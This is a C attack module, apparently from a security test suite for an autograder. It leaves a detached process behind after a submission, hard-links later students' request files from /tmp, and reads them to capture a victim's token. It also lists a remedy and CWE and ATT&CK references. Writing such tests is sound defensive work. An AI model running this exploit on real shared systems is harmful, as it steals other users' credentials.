// SPDX-License-Identifier: MIT
/*
 * Goal:  the next student's request, with the token in it.
 * Means: link(2). The shim removes a request when it was answered, and it is gone in a moment; a
 *        process that is left behind gives every request that appears a second name, and ends. To
 *        remove a name removes no file: the accomplice reads them all in peace. The rule that
 *        protects hard links lets a user link its own files, and they are all one user's.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <glob.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

#define TRIES 3000 /* one each millisecond */
#define LINKS 8

/* Holds no pipe of the student's, whose end the grader waits for. */
static _Noreturn void survive(const char *name)
{
	const struct timespec tick = { .tv_nsec = 1000000 };
	char path[128];
	glob_t found;
	int links = 0;

	setsid();
	close_range(0, ~0U, 0);
	for (int i = 0; i < TRIES && links < LINKS; i++, nanosleep(&tick, NULL)) {
		if (glob("/tmp/shimmy/*/request-data-*", GLOB_NOSORT, NULL, &found))
			continue;
		for (size_t k = 0; k < found.gl_pathc; k++) {
			snprintf(path, sizeof(path), "/tmp/%s-%.6s", name,
				 found.gl_pathv[k] + sizeof("/tmp/shimmy/") - 1);
			links += !link(found.gl_pathv[k], path);
		}
		globfree(&found);
	}
	_exit(0);
}

static enum claim collect(const struct brief *b)
{
	char pattern[128], text[65536];
	glob_t found;

	snprintf(pattern, sizeof(pattern), "/tmp/%s-*", b->name);
	if (glob(pattern, GLOB_NOSORT, NULL, &found))
		return denied(pattern);
	for (size_t i = 0; i < found.gl_pathc; i++) {
		int fd = open(found.gl_pathv[i], O_RDONLY | O_CLOEXEC);
		ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));

		if (n > 0)
			loot(text, (size_t)n);
		close(fd);
	}
	globfree(&found);
	return CLAIM_DONE;
}

static enum claim run(const struct brief *b)
{
	pid_t child;

	submit("0");
	attempting(b);
	if (b->again)
		return collect(b);
	child = fork();
	if (!child)
		survive(b->name);
	return child < 0 ? denied("fork") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student's request is kept beyond its removal, and read",
	.means = "a hard link to each request file, made by a process left behind",
	.oracle = "secret:victim",
	.scene = SCENE_BEFORE_VICTIM,
	.grader = GRADER_FILE,
	.id = "TMPS-13",
	.attack_id = "T1005, T1074.001, CWE-377, CWE-459",
	.remedy = "end every process of a submission; requests where students may not make a link",
	.refs = (const char *const[]){ "link(2)", "proc_sys_fs(5), protected_hardlinks", NULL },
	.run = run,
};
